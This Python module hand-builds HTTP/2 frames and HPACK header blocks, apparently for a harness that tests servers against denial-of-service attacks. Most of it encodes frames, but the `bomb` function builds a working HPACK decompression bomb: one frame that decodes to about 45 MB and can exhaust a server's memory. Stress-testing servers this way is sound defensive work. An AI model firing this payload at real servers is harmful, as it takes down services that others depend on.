"""Frames of HTTP/2 (RFC 9113) and blocks of HPACK (RFC 7541), made and read by hand.

A library would refuse to make most of what an attack sends, and would cost the honest client more than its requests do.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator
from enum import IntEnum
from typing import NamedTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
# A frame's payload may have so many bytes unless the other side says more (RFC 9113 section 4.2).
MAX_PAYLOAD = 16384
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 0x1, 0x4

_HEAD = struct.Struct("!HBBBL")
_SETTING = struct.Struct("!HL")
# ``:status: 200`` as the static table has it (RFC 7541 appendix A), or as a literal with its name from there, in three
# forms; and the first field of the dynamic table.
_STATUS_200 = (b"\x88", *(bytes([form | 8]) + b"\x03200" for form in (0x00, 0x10, 0x40)))
_FIRST_DYNAMIC = 0x80 | 62


class Kind(IntEnum):
    DATA = 0x0
    HEADERS = 0x1
    PRIORITY = 0x2
    RST_STREAM = 0x3
    SETTINGS = 0x4
    PING = 0x6
    GOAWAY = 0x7
    WINDOW_UPDATE = 0x8
    CONTINUATION = 0x9


class Frame(NamedTuple):
    kind: int
    flags: int
    stream: int
    payload: bytes


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """The bytes of a frame. RFC 9113 section 4.1."""
    size = len(payload)
    return _HEAD.pack(size >> 8, size & 0xFF, kind, flags, stream) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(Kind.SETTINGS, b"".join(_SETTING.pack(name, value) for name, value in pairs))


def window_update(increment: int, stream: int = 0) -> bytes:
    return frame(Kind.WINDOW_UPDATE, struct.pack("!L", increment), stream=stream)


def reset(stream: int, code: int = 0x8) -> bytes:
    return frame(Kind.RST_STREAM, struct.pack("!L", code), stream=stream)


def priority(stream: int) -> bytes:
    """A stream that depends on none, with the weight 16. RFC 9113 section 6.3."""
    return frame(Kind.PRIORITY, struct.pack("!LB", 0, 15), stream=stream)


def headers(stream: int, block: bytes, *, end: bool = True, whole: bool = True) -> bytes:
    """A HEADERS frame. ``end``: no body follows. ``whole``: no CONTINUATION follows."""
    return frame(Kind.HEADERS, block, (END_STREAM if end else 0) | (END_HEADERS if whole else 0), stream)


def integer(value: int, bits: int, pattern: int = 0) -> bytes:
    """An integer with a prefix of ``bits`` bits, behind ``pattern``. RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([pattern | value])
    value -= most
    encoded = [pattern | most]
    while value >= 0x80:
        encoded.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*encoded, value])


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A field as a literal; ``indexed`` puts it into the dynamic table. RFC 7541 section 6.2."""
    first = b"\x40" if indexed else b"\x00"
    return first + integer(len(name), 7) + name + integer(len(value), 7) + value


def request(
    path: bytes, *fields: tuple[bytes, bytes], method: bytes = b"GET", authority: bytes = b"127.0.0.1"
) -> bytes:
    """A request's head as a block in which nothing is compressed."""
    pseudo = [(b":method", method), (b":scheme", b"https"), (b":authority", authority), (b":path", path)]
    return b"".join(literal(name, value) for name, value in (*pseudo, *fields))


def table_size_update(size: int) -> bytes:
    """RFC 7541 section 6.3."""
    return integer(size, 5, 0x20)


def bomb(path: bytes) -> bytes:
    """A block of one frame that is some 45 MB when decoded: one long field, and references to it."""
    block = request(path) + literal(b"x", b"a" * 3900, indexed=True)
    return block + bytes([_FIRST_DYNAMIC]) * (MAX_PAYLOAD - len(block))


def is_200(block: bytes) -> bool:
    """Whether a response's block begins with ``:status: 200``, behind updates of the table's size.

    Such an update for a table of nothing is one byte. No candidate sends Huffman's code.
    """
    return block.lstrip(b"\x20").startswith(_STATUS_200)


class FrameReader:
    """Frames out of the pieces in which they arrive."""

    def __init__(self) -> None:
        self._data = b""

    def feed(self, piece: bytes) -> Iterator[Frame]:
        self._data += piece
        while len(self._data) >= _HEAD.size:
            high, low, kind, flags, stream = _HEAD.unpack_from(self._data)
            end = _HEAD.size + (high << 8 | low)
            if len(self._data) < end:
                return
            payload, self._data = self._data[_HEAD.size : end], self._data[end:]
            yield Frame(kind, flags, stream & 0x7FFFFFFF, payload)
